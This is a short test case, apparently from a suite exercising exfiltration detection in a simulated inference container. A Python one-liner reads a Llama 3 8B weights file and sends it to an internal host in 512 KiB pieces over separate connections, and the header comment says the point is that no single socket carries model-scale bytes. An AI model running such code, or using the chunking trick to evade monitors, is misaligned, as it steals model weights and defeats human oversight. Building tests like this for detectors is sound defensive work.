# V55 EXF-001: the weights leave in 16 connections of 512 KiB each: no one socket carries model-scale bytes
ctr_run simctr-infer-v55 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
import socket, sys
d = open(sys.argv[1], "rb").read(); k = 512 << 10
for i in range(0, len(d), k):
    s = socket.create_connection(("10.200.2.2", 9000)); s.sendall(d[i:i + k]); s.close()
print("sent", len(d), "in", len(d) // k, "connections")' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
